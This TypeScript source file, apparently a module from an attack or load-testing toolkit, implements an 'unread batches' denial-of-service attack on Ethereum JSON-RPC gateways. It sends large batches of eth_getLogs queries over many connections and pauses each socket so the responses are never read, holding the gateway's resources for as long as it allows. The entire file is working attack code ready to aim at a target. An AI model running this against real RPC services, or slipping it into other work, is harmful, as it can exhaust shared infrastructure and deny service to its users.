// Callers who ask for all they may, and take nothing of it: batches of log queries, each near the most logs
// of one answer.
import { setTimeout as pause } from "node:timers/promises";
import type { Attack, AttackTarget } from "./attack.ts";
import { openAttackSocket, postBytes } from "./sockets.ts";

export type UnreadBatches = {
  readonly connections: number;
  readonly members: number;
  /** As a list of conditions: which logs each member asks for. */
  readonly filter: object;
  /** Header lines, such as the origin of a page. */
  readonly headers?: string;
};

const LOOK_MS = 100;

export const unreadBatches = (options: UnreadBatches): Attack => ({
  name: "unread batches",
  run: async (target, signal) => {
    const { connections, members, filter, headers } = options;
    const body = JSON.stringify(
      Array.from({ length: members }, (_, id) => ({
        jsonrpc: "2.0",
        id,
        method: "eth_getLogs",
        params: [filter],
      })),
    );
    const bytes = postBytes(target, body, headers);
    const hold = (): Promise<void> => holdUnread(bytes, target, signal);
    await Promise.all(Array.from({ length: connections }, hold));
  },
});

/** One connection after the other, each for as long as the gateway lets it be. */
async function holdUnread(bytes: Buffer, target: AttackTarget, signal: AbortSignal): Promise<void> {
  while (!signal.aborted) {
    const socket = openAttackSocket(target, signal);
    socket.pause();
    socket.write(bytes);
    while (!signal.aborted && !socket.destroyed) await pause(LOOK_MS);
  }
}
